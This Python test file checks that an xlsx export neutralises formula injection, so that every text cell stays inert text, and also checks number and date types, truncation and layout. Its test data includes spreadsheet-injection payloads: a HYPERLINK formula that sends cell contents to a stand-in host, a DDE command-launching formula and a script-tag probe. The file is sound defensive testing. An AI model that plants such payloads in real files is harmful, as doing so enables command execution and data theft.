"""The workbook: opened again, nothing in it runs, and every kind of cell is what it was."""

from __future__ import annotations

from datetime import date, datetime
from io import BytesIO

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from documents import workbook
from services.listing import Cell, Listed
from tests.documents.read_before import ENDLESS, HOSTILE

ON = date(2026, 11, 24)
RUNS = (
    '=HYPERLINK("http://x.example?"&A1,"y")', "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1",
    "=cmd|'/c calc'!A0", "{=1}", "'=1", "http://x.example", "mailto:a@x.example", "internal:A1",
    "42", "1e5", "007", "2026-11-24", "TRUE", "#REF!", "<script>alert(1)</script>", HOSTILE,
)  # fmt: skip


def opened(*rows: tuple[Cell, ...], heads: tuple[str, ...] = ("What",)) -> Worksheet:
    made = workbook.xlsx([Listed("Notes", "", heads, rows)], "Corner Bakery", ON)
    sheet = openpyxl.load_workbook(BytesIO(made))["Notes"]
    assert isinstance(sheet, Worksheet)
    return sheet


def test_no_text_runs_whatever_it_begins_with() -> None:
    sheet = opened(*((words,) for words in RUNS))
    for at, words in enumerate(RUNS, start=2):
        cell = sheet.cell(at, 1)
        assert cell.data_type == "s", words
        assert isinstance(cell.value, str)
        assert cell.value.split()[0] == words.split()[0]
        assert cell.hyperlink is None
        assert cell.number_format == "@"
        assert cell.quotePrefix


def test_no_heading_and_no_formula_are_in_the_file() -> None:
    made = workbook.xlsx([Listed("Notes", "", ("=1+1",), tuple((w,) for w in RUNS))], "=1+1", ON)
    book = openpyxl.load_workbook(BytesIO(made))
    assert book["Notes"]["A1"].data_type == "s"
    assert not book.defined_names
    assert {cell.data_type for row in book["Notes"].iter_rows() for cell in row} == {"s"}


def test_numbers_are_numbers_days_are_days_and_the_unknown_is_empty() -> None:
    sheet = opened((1.5, 3, ON, None, ""), heads=("a", "b", "c", "d", "e"))
    kinds = [cell.data_type for cell in sheet[2]]
    assert [cell.value for cell in sheet[2]] == [1.5, 3, datetime(2026, 11, 24), None, None]
    assert kinds == ["n", "n", "d", "n", "n"]
    assert sheet["C2"].number_format == "yyyy-mm-dd"


def test_long_texts_are_cut_and_it_is_seen() -> None:
    sheet = opened((ENDLESS * 20,), (ENDLESS,))
    assert len(str(sheet["A2"].value)) == workbook.LONGEST
    assert str(sheet["A2"].value).endswith("…")
    assert sheet["A3"].value == ENDLESS


def test_heads_stay_in_sight_on_the_screen_and_on_paper() -> None:
    sheet = opened(("x",), ("y",))
    assert sheet.freeze_panes == "A2"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.auto_filter.ref == "A1:A3"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.page_setup.fitToHeight == 0
    assert sheet.page_setup.orientation == "landscape"


@pytest.mark.parametrize(("words", "wide"), [("x", workbook.NARROW), ("x" * 900, workbook.WIDE)])
def test_columns_are_as_wide_as_what_is_in_them(words: str, wide: int) -> None:
    width = opened((words,)).column_dimensions["A"].width
    assert width == pytest.approx(wide, abs=1)


def test_the_same_lists_give_the_same_bytes() -> None:
    one = [Listed("Notes", "", ("What",), (("x",),))]
    assert workbook.xlsx(one, "x", ON) == workbook.xlsx(one, "x", ON)
